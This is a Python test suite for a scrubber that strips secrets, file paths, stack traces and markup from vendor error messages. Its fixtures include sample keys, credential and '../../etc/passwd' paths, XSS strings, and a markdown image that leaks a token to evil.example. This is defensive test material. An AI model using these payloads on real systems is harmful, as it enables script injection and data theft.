"""What a vendor says is shown, but never what it should not have said."""

from __future__ import annotations

import itertools
import random
import re
import time

import pytest

from agent.providers.scrub import LONGEST, plain, scrub

KEY = "kk-5f/Zq81+kVnM3rT0aLw=="
WORDS = "the model was not able to read part of your request because it was odd".split()
SECRETS = [
    KEY,
    f"'{KEY}'",
    f"Bearer {KEY}",
    KEY[:14],
    "sk-proj-abcdef0123456789",
    "sk-…a1b2",
    "sk-ant-api03-AbCdEf-012345_6789",
    "sk-********************abcd",
    "xoxb-123456-abcdef",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "AKIAIOSFODNN7EXAMPLE",
    "Authorization: Bearer tOpSeCrEt",
    'x-api-key="hunter2hunter2"',
    "password=hunter2hunter2",
    "Basic YW5uOmh1bnRlcjI=",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV",
    "0123456789abcdef0123456789abcdef",
    "https://ann:hunter2@host.example/v1?key=tOpSeCrEt#x",
    "http://host.example/a/b?token=tOpSeCrEt",
    "postgres://ann:hunter2@db/x",
    "ann:hunter2@host.example",
    "/home/ann/.ssh/id_rsa",
    "'/Users/Ann Smith/My Models/x.gguf'",
    "/Users/Ann Smith/My Models/x.gguf",
    "~/.aws/credentials",
    "../../etc/passwd",
    "C:\\Users\\Ann Smith\\x.txt",
    "\\\\server\\share\\x.txt",
    "src/secret/run.py:33",
    "file:///etc/passwd",
    "<script>alert('hunter2')</script>",
    "<img src=x onerror='hunter2()'>",
    "&lt;b onclick=hunter2()&gt;",
    "[here](javascript:hunter2('x'))",
    "![x](https://evil.example/?q=tOpSeCrEt)",
    "\x1b[31m\x00\u202e\u200b\r\n\t",
    'Traceback (most recent call last):\n  File "/srv/hunter2.py", line 3, in x\nhunter2Error: no',
    "at Object.hunter2 (/app/index.js:10:2)\n    at node:internal/x:1:1",
]
NEVER = re.compile(
    r"hunter2|tOpSeCrEt|Zq81|abcdef01|AbCdEf|16C7e42|IOSFODNN|OjH1bnR|SflKx|0123456789ab|ann|Ann|Smith|id_rsa|passwd"
    r"|credentials|gguf|share|run\.py|Traceback|javascript|<\w|onerror|[\x00-\x1f\u202e\u200b]",
)


def test_no_secret_path_trace_or_markup_comes_through_wherever_it_stands():
    dice = random.Random(7)
    for secret in SECRETS:
        for before, after in itertools.product(("", " ", ": ", "(", "=", ", "), ("", " ", ".", ")", ",", ": ")):
            words = " ".join(dice.choices(WORDS, k=dice.randint(0, 12)))
            text = f"{words}{before or ' '}{secret}{after}{' '.join(dice.choices(WORDS, k=dice.randint(0, 12)))}"
            _check(scrub(text, key=KEY), text)


def test_nor_when_they_come_together():
    dice = random.Random(11)
    for _ in range(1_500):
        parts = dice.choices(SECRETS + WORDS, k=dice.randint(1, 12))
        text = dice.choice((" ", "\n", "; ", " - ")).join(parts)
        _check(scrub(text, key=KEY), text)


def _check(shown: str, text: str) -> None:
    assert not NEVER.search(shown), (text, shown)
    assert KEY not in shown
    assert "\n" not in shown
    assert len(shown) <= LONGEST + 1
    assert not shown or shown.endswith((".", "!", "?"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Invalid value: 'foo'. Supported are: 'a' and 'b'", "Invalid value: 'foo'. Supported are: 'a' and 'b'."),
        ("messages.1.content.0: text is required!", "messages.1.content.0: text is required!"),
        ("The model `m-1` is and/or was 12 MB;\n 5 MB is most", "The model m-1 is and/or was 12 MB; 5 MB is most."),
        ("max_tokens: 200000 > 128000, the maximum", "max_tokens: 200000 > 128000, the maximum."),
        ("Not in /v1/chat/completions. Use /v1/responses.", "Not in /v1/chat/completions. Use /v1/responses."),
        ("See https://platform.example.com/docs/errors?x=1.", "See platform.example.com."),
        ("claude-sonnet-4-5-20250929 was retired", "claude-sonnet-4-5-20250929 was retired."),
        ("Incorrect key: sk-p***z9. Get one", "Incorrect key: … Get one."),
        ("<!DOCTYPE html><p>Hello, this is a page</p>", ""),
        ("502", ""),
        ("…", ""),
        ("", ""),
    ],
)
def test_what_helps_is_kept(text: str, shown: str):
    assert scrub(text) == shown


def test_the_name_of_the_model_may_look_like_a_token():
    name = "hf.co/bartowski/Qwen3-30B-A3B-Instruct-2507-GGUF:Q4_K_M"
    assert scrub(f"{name} does not do that", keep=name) == f"{name} does not do that."


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("gpt-6.1-terra", "gpt-6.1-terra"),
        ("hf.co/bartowski/Llama-3.2-3B:Q4", "hf.co/bartowski/Llama-3.2-3B:Q4"),
        ("/home/ann/models/qwen.gguf", "qwen.gguf"),
        ("C:\\Users\\Ann\\qwen.gguf", "qwen.gguf"),
        ("two\nlines", "two lines"),
        ("<b>bold</b>", "bbold/b"),
        (KEY, "…"),
    ],
)
def test_a_name_is_said_without_where_it_lies(name: str, shown: str):
    assert plain(name, key=KEY) == shown


def test_a_long_message_ends_with_a_whole_sentence_or_word():
    assert scrub("This is why it went wrong, I would say. " * 30).endswith("I would say.")
    assert scrub("word " * 200).endswith(" word….")


@pytest.mark.parametrize("key", ["", "a", "ollama", "half \ud83d", "k" * 5_000, "%00%2f", "(?P<x>["])
def test_no_key_is_too_odd(key: str):
    assert scrub(f"It says {key!r} and no more", key=key).startswith("It says")
    assert not key or len(key) < 4 or key not in scrub(f"It says {key} and no more", key=key)


@pytest.mark.parametrize(
    "bit", ["a/", "/", "<", "<a", "[(", "[a]((", ":", "a:b@", "*", "a*** ", "sk-", "\\", "a-", "://", "…, "]
)
def test_a_monstrous_message_costs_little(bit: str):
    began = time.perf_counter()
    scrub(bit * 100_000, key=KEY)
    assert time.perf_counter() - began < 0.5
